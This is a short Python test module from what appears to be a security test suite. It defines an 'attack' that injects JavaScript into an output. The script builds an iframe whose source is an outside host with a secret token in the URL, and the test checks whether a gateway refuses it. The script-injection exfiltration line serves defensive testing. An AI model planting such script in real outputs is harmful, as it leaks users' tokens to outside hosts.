"""A script opens a frame at an address outside."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    script = f"""const i = document.createElement('iframe'); i.src = 'http://{WEB}/{ground.token}'; document.body.append(i)"""
    return ground.leave_by_script(script)


ATTACK = Attack("a script in an output", attempt, recorded=("gateway.refused", "message.media"))
